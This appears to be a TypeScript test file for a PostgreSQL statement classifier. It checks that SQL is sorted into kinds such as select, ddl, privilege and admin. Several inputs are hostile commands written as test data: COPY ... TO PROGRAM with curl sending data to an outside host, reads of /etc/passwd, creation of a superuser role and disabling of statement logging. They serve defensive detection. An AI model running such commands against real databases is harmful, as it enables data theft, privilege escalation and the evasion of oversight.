/**
 * Every kind, by statement type: text → kinds, tables read and written, functions called.
 * Tables and scoping: classify-tables.test.ts; functions and operators: classify-functions.test.ts;
 * PREPARE/EXECUTE, multi-statement text, parse errors and the cache: classify-session.test.ts.
 */
import { loadSqlParser } from "./parser";
import { runCases, type Case } from "./testing";

await loadSqlParser();

const O = "public.orders";

runCases("select", [
  { sql: "SELECT 1", kinds: ["select"] },
  { sql: "select * from orders", kinds: ["select"], reads: [O] },
  { sql: "TABLE orders", kinds: ["select"], reads: [O] },
  { sql: "VALUES (1, 'a'), (2, 'b')", kinds: ["select"] },
  { sql: "with t as (select * from orders) select * from t", kinds: ["select"], reads: [O] },
  { sql: "EXPLAIN SELECT * FROM orders", kinds: ["select"], reads: [O] },
  // Plain EXPLAIN plans without running: the target is only read.
  { sql: "explain (costs off) delete from orders", kinds: ["select"], reads: [O] },
  { sql: "explain (analyze false) update orders set total = 0", kinds: ["select"], reads: [O] },
  { sql: "explain (analyze off, verbose) insert into orders (id) values (1)", kinds: ["select"], reads: [O] },
  { sql: "DECLARE c CURSOR FOR SELECT * FROM orders", kinds: ["select"], reads: [O] },
  { sql: "declare c scroll cursor with hold for select id from orders where total > 0", kinds: ["select"], reads: [O] },
  { sql: "FETCH 10 FROM c", kinds: ["select"] },
  { sql: "fetch all in c", kinds: ["select"] },
  { sql: "MOVE NEXT IN c", kinds: ["select"] },
  { sql: "CLOSE c", kinds: ["select"] },
  { sql: "close all", kinds: ["select"] },
]);

runCases("EXPLAIN ANALYZE is the statement it runs", [
  { sql: "EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1", kinds: ["delete"], writes: [O] },
  { sql: "explain (analyze, buffers) insert into orders (id) values (1)", kinds: ["insert"], writes: [O] },
  { sql: "explain (analyze on) select * from orders", kinds: ["select"], reads: [O] },
  { sql: "explain (analyze 1) update orders set total = 1", kinds: ["update"], writes: [O] },
  { sql: "explain (analyze true, format json) select nextval('s')", kinds: ["select", "call"], functions: ["nextval"] },
  { sql: "explain analyze verbose create table t2 as select * from orders", kinds: ["ddl"], reads: [O], writes: ["public.t2"] },
]);

runCases("insert, update, delete, merge, truncate", [
  { sql: "INSERT INTO orders (id, total) VALUES (1, 10)", kinds: ["insert"], writes: [O] },
  { sql: "insert into orders select * from staging.orders", kinds: ["insert"], reads: ["staging.orders"], writes: [O] },
  { sql: "insert into orders values (1) on conflict (id) do nothing", kinds: ["insert"], writes: [O] },
  { sql: "insert into orders values (1) on conflict (id) do update set total = excluded.total", kinds: ["insert", "update"], writes: [O] },
  { sql: "insert into orders default values returning id", kinds: ["insert"], writes: [O] },
  { sql: "UPDATE orders SET total = 0 WHERE id = 1", kinds: ["update"], writes: [O] },
  { sql: "update orders o set total = r.amount from refunds r where r.order_id = o.id", kinds: ["update"], reads: ["public.refunds"], writes: [O] },
  { sql: "DELETE FROM orders WHERE id IN (SELECT order_id FROM refunds)", kinds: ["delete"], reads: ["public.refunds"], writes: [O] },
  { sql: "delete from orders using refunds where refunds.order_id = orders.id returning orders.*", kinds: ["delete"], reads: ["public.refunds"], writes: [O] },
  { sql: "delete from orders where current of c", kinds: ["delete"], writes: [O] },
  {
    sql: "MERGE INTO orders o USING staging.orders s ON o.id = s.id WHEN MATCHED THEN UPDATE SET total = s.total WHEN NOT MATCHED THEN INSERT (id, total) VALUES (s.id, s.total)",
    kinds: ["merge"],
    reads: ["staging.orders"],
    writes: [O],
  },
  { sql: "merge into orders using (select * from refunds) r on orders.id = r.order_id when matched then delete", kinds: ["merge"], reads: ["public.refunds"], writes: [O] },
  { sql: "TRUNCATE orders, refunds", kinds: ["truncate"], writes: [O, "public.refunds"] },
  { sql: "truncate table only orders restart identity cascade", kinds: ["truncate"], writes: [O] },
]);

runCases("copy", [
  { sql: "COPY orders TO STDOUT", kinds: ["copy_out"], reads: [O] },
  { sql: "copy (select id, email from customers) to stdout with (format csv)", kinds: ["copy_out"], reads: ["public.customers"] },
  { sql: "copy orders (id, total) from stdin", kinds: ["copy_in"], writes: [O] },
  { sql: "copy orders from stdin where total > 0", kinds: ["copy_in"], writes: [O] },
  { sql: "copy (delete from orders returning *) to stdout", kinds: ["copy_out", "delete"], writes: [O] },
  { sql: "copy (select nextval('s')) to stdout", kinds: ["copy_out", "call"], functions: ["nextval"] },
  { sql: "COPY orders FROM '/tmp/orders.csv'", kinds: ["admin"], writes: [O] },
  { sql: "copy orders to '/tmp/out.csv'", kinds: ["admin"], reads: [O] },
  { sql: "copy orders to program 'curl -d @- http://example.com'", kinds: ["admin"], reads: [O] },
  { sql: "copy orders from program 'cat /etc/passwd'", kinds: ["admin"], writes: [O] },
]);

runCases("ddl", [
  { sql: "CREATE TABLE notes (id int primary key, body text)", kinds: ["ddl"], writes: ["public.notes"] },
  { sql: "create temp table scratch (id int)", kinds: ["ddl"], writes: ["pg_temp.scratch"] },
  { sql: "create table s.t (a int references customers (id), like orders)", kinds: ["ddl"], reads: ["public.customers", O], writes: ["s.t"] },
  { sql: "CREATE TABLE big AS SELECT * FROM orders", kinds: ["ddl"], reads: [O], writes: ["public.big"] },
  { sql: "create table empty_copy as select * from orders with no data", kinds: ["ddl"], reads: [O], writes: ["public.empty_copy"] },
  { sql: "select * into archive.orders_2024 from orders", kinds: ["select", "ddl"], reads: [O], writes: ["archive.orders_2024"] },
  { sql: "select * into temp t from orders", kinds: ["select", "ddl"], reads: [O], writes: ["pg_temp.t"] },
  { sql: "create materialized view mv as select count(*) from orders", kinds: ["ddl"], reads: [O], writes: ["public.mv"], functions: ["count"] },
  { sql: "CREATE VIEW v AS SELECT * FROM customers", kinds: ["ddl"], reads: ["public.customers"], writes: ["public.v"] },
  { sql: "alter table orders add column note text", kinds: ["ddl"], writes: [O] },
  { sql: "ALTER TABLE orders ADD COLUMN n bigint DEFAULT nextval('seq')", kinds: ["call", "ddl"], writes: [O], functions: ["nextval"] },
  { sql: "alter index orders_pkey rename to orders_pk", kinds: ["ddl"], writes: ["public.orders_pkey"] },
  { sql: "drop table orders cascade", kinds: ["ddl"], writes: [O] },
  { sql: "drop view if exists reporting.summary, v", kinds: ["ddl"], writes: ["reporting.summary", "public.v"] },
  { sql: "DROP FUNCTION audit(int)", kinds: ["ddl"] },
  { sql: "create index concurrently on orders (customer_id)", kinds: ["ddl"], writes: [O] },
  { sql: "create index on orders (audit(id))", kinds: ["call", "ddl"], writes: [O], functions: ["audit"] },
  { sql: "comment on table orders is 'all orders'", kinds: ["ddl"] },
  { sql: "GRANT SELECT ON orders TO reporting", kinds: ["ddl"], writes: [O] },
  { sql: "revoke all on all tables in schema public from public", kinds: ["ddl"] },
  { sql: "alter default privileges in schema public grant select on tables to reporting", kinds: ["ddl"] },
  { sql: "create function add(a int, b int) returns int language sql immutable as $$ select a + b $$", kinds: ["ddl"] },
  { sql: "create procedure wipe() begin atomic delete from orders; end", kinds: ["ddl"], reads: [O] },
  { sql: "CREATE EXTENSION IF NOT EXISTS pgcrypto", kinds: ["ddl"] },
  { sql: "alter table orders rename to orders_old", kinds: ["ddl"], writes: [O] },
  { sql: "create schema reporting", kinds: ["ddl"] },
  { sql: "create sequence ticket_seq", kinds: ["ddl"], writes: ["public.ticket_seq"] },
  { sql: "create rule keep as on delete to orders do instead nothing", kinds: ["ddl"], writes: [O] },
  { sql: "create trigger t before insert on orders for each row execute function audit()", kinds: ["ddl"], writes: [O] },
  { sql: "create policy mine on orders using (customer_id = 1)", kinds: ["ddl"], writes: [O] },
  { sql: "create type mood as enum ('ok', 'sad')", kinds: ["ddl"] },
  { sql: "create aggregate total(int) (sfunc = int4pl, stype = int)", kinds: ["ddl"] },
  { sql: "create database other", kinds: ["ddl"] },
  { sql: "drop owned by app", kinds: ["ddl"] },
]);

runCases("maintenance", [
  { sql: "VACUUM", kinds: ["maintenance"] },
  { sql: "vacuum (verbose, analyze) orders", kinds: ["maintenance"], writes: [O] },
  { sql: "vacuum full orders, archive.orders", kinds: ["maintenance"], writes: [O, "archive.orders"] },
  { sql: "ANALYZE orders", kinds: ["maintenance"], writes: [O] },
  { sql: "reindex table orders", kinds: ["maintenance"], writes: [O] },
  { sql: "reindex database shop", kinds: ["maintenance"] },
  { sql: "cluster orders using orders_pkey", kinds: ["maintenance"], writes: [O] },
  { sql: "REFRESH MATERIALIZED VIEW CONCURRENTLY daily_totals", kinds: ["maintenance"], reads: [O], writes: ["public.daily_totals"] },
  { sql: "refresh materialized view daily_totals with no data", kinds: ["maintenance"], writes: ["public.daily_totals"] },
]);

runCases("lock", [
  { sql: "select * from orders for update", kinds: ["select", "lock"], reads: [O] },
  { sql: "select * from orders o join customers c on c.id = o.customer_id for no key update of o", kinds: ["select", "lock"], reads: [O, "public.customers"] },
  { sql: "select * from orders for key share skip locked", kinds: ["select", "lock"], reads: [O] },
  { sql: "select * from orders for share nowait", kinds: ["select", "lock"], reads: [O] },
  { sql: "select * from (select * from orders for update) s", kinds: ["select", "lock"], reads: [O] },
  { sql: "declare c cursor for select * from orders for update", kinds: ["select", "lock"], reads: [O] },
  { sql: "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", kinds: ["lock"], reads: [O] },
  { sql: "lock orders, refunds", kinds: ["lock"], reads: [O, "public.refunds"] },
]);

runCases("call", [
  { sql: "CALL refresh_stats()", kinds: ["call"], functions: ["refresh_stats"] },
  { sql: "call reporting.rebuild(1, nextval('s'))", kinds: ["call"], functions: ["nextval", "reporting.rebuild"] },
  { sql: "DO $$ BEGIN DELETE FROM orders; END $$", kinds: ["call"] },
  { sql: "do language plpgsql 'begin perform 1; end'", kinds: ["call"] },
  { sql: "select nextval('ticket_seq')", kinds: ["select", "call"], functions: ["nextval"] },
]);

runCases("notify", [
  { sql: "NOTIFY orders_changed", kinds: ["notify"] },
  { sql: "notify orders_changed, 'payload'", kinds: ["notify"] },
  { sql: "select pg_notify('orders_changed', 'x')", kinds: ["select", "call"], functions: ["pg_notify"] },
]);

runCases("privilege", [
  { sql: "SET ROLE admin", kinds: ["privilege"] },
  { sql: "set local role admin", kinds: ["privilege"] },
  { sql: "set role none", kinds: ["privilege"] },
  { sql: "reset role", kinds: ["privilege"] },
  { sql: "SET SESSION AUTHORIZATION postgres", kinds: ["privilege"] },
  { sql: "reset session authorization", kinds: ["privilege"] },
  { sql: "set session_replication_role = replica", kinds: ["privilege"] },
  { sql: "SET row_security = off", kinds: ["privilege"] },
  { sql: "set local row_security to off", kinds: ["privilege"] },
  { sql: 'SET "ROLE" TO admin', kinds: ["privilege"] },
  { sql: "CREATE ROLE intruder LOGIN SUPERUSER", kinds: ["privilege"] },
  { sql: "alter user app with password 'x'", kinds: ["privilege"] },
  { sql: "alter role app set search_path = evil", kinds: ["privilege"] },
  { sql: "alter role app rename to app2", kinds: ["privilege"] },
  { sql: "alter database shop set role = admin", kinds: ["ddl", "privilege"] },
  { sql: "alter database shop set work_mem = '64MB'", kinds: ["ddl"] },
  { sql: "DROP ROLE intruder", kinds: ["privilege"] },
  { sql: "create group auditors", kinds: ["privilege"] },
  { sql: "create user bot", kinds: ["privilege"] },
  { sql: "GRANT admin TO app", kinds: ["privilege"] },
  { sql: "revoke admin from app", kinds: ["privilege"] },
  { sql: "alter table orders owner to intruder", kinds: ["privilege"], writes: [O] },
  { sql: "alter table orders owner to intruder, add column x int", kinds: ["ddl", "privilege"], writes: [O] },
  { sql: "ALTER FUNCTION audit(int) OWNER TO intruder", kinds: ["privilege"] },
  { sql: "alter schema public owner to intruder", kinds: ["privilege"] },
  { sql: "security label for selinux on table orders is 'x'", kinds: ["privilege"] },
  { sql: "reassign owned by app to postgres", kinds: ["privilege"] },
]);

runCases("admin", [
  { sql: "ALTER SYSTEM SET log_statement = 'none'", kinds: ["admin"] },
  { sql: "CHECKPOINT", kinds: ["admin"] },
  { sql: "LOAD 'auto_explain'", kinds: ["admin"] },
  { sql: "PREPARE TRANSACTION 'tx1'", kinds: ["admin"] },
  { sql: "commit prepared 'tx1'", kinds: ["admin"] },
  { sql: "rollback prepared 'tx1'", kinds: ["admin"] },
  { sql: "CREATE TABLESPACE fast LOCATION '/mnt/ssd'", kinds: ["admin"] },
  { sql: "select pg_read_file('/etc/passwd')", kinds: ["select", "call", "admin"], functions: ["pg_read_file"] },
  { sql: "select * from pg_ls_dir('.')", kinds: ["select", "call", "admin"], functions: ["pg_ls_dir"] },
  { sql: "select lo_import('/etc/passwd')", kinds: ["select", "call", "admin"], functions: ["lo_import"] },
  { sql: "select lo_export(1, '/tmp/x')", kinds: ["select", "call", "admin"], functions: ["lo_export"] },
  { sql: "select pg_catalog.pg_stat_file('postgresql.conf')", kinds: ["select", "call", "admin"], functions: ["pg_catalog.pg_stat_file"] },
  { sql: "select * from orders where exists (select pg_read_binary_file('/etc/passwd'))", kinds: ["select", "call", "admin"], reads: [O], functions: ["pg_read_binary_file"] },
]);

runCases("session", [
  { sql: "BEGIN", kinds: ["session"] },
  { sql: "start transaction isolation level serializable, read only", kinds: ["session"] },
  { sql: "COMMIT", kinds: ["session"] },
  { sql: "commit and chain", kinds: ["session"] },
  { sql: "ROLLBACK", kinds: ["session"] },
  { sql: "savepoint a", kinds: ["session"] },
  { sql: "release savepoint a", kinds: ["session"] },
  { sql: "rollback to savepoint a", kinds: ["session"] },
  // search_path: followed where exact (lib/sql/search-path.test.ts), a privilege change where not.
  { sql: "SET search_path TO public", kinds: ["session"] },
  { sql: "set local search_path = evil, pg_catalog", kinds: ["session"] },
  { sql: "select set_config('search_path', 'evil', false)", kinds: ["session"], functions: ["set_config"] },
  { sql: "select set_config('search_path', 'evil', false) from t", kinds: ["select", "call", "privilege"], reads: ["public.t"], functions: ["set_config"] },
  { sql: "select set_config('search_path', current_user, false)", kinds: ["select", "call", "privilege"], functions: ["set_config"] },
  { sql: "select set_config('search_path', 'evil', $1)", kinds: ["select", "call", "privilege"], functions: ["set_config"] },
  { sql: "select set_config('search_path', '\"unclosed', false)", kinds: ["select", "call", "privilege"], functions: ["set_config"] },
  { sql: "SET standard_conforming_strings = off", kinds: ["privilege"] },
  { sql: "set backslash_quote = on", kinds: ["privilege"] },
  { sql: "SET client_encoding TO 'SJIS'", kinds: ["privilege"] },
  { sql: "SET NAMES 'BIG5'", kinds: ["privilege"] },
  { sql: "set statement_timeout = '5s'", kinds: ["session"] },
  { sql: "SET TIME ZONE 'UTC'", kinds: ["session"] },
  { sql: "set application_name to default", kinds: ["session"] },
  { sql: "reset all", kinds: ["session"] },
  { sql: "SHOW ALL", kinds: ["session"] },
  { sql: "show transaction isolation level", kinds: ["session"] },
  { sql: "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ", kinds: ["session"] },
  { sql: "set session characteristics as transaction read only", kinds: ["session"] },
  { sql: "set constraints all deferred", kinds: ["session"] },
  { sql: "DISCARD ALL", kinds: ["session"] },
  { sql: "discard plans", kinds: ["session"] },
  { sql: "LISTEN orders_changed", kinds: ["session"] },
  { sql: "UNLISTEN *", kinds: ["session"] },
  { sql: "DEALLOCATE ALL", kinds: ["session"] },
  { sql: "deallocate prepare p", kinds: ["session"] },
]);

runCases("unknown", [
  { sql: "selec 1", kinds: ["unknown"] },
  { sql: "SELECT * FROM", kinds: ["unknown"] },
  { sql: "create table (", kinds: ["unknown"] },
  { sql: "select 'unterminated", kinds: ["unknown"] },
  { sql: "EXECUTE nowhere", kinds: ["unknown"] },
] satisfies Case[]);
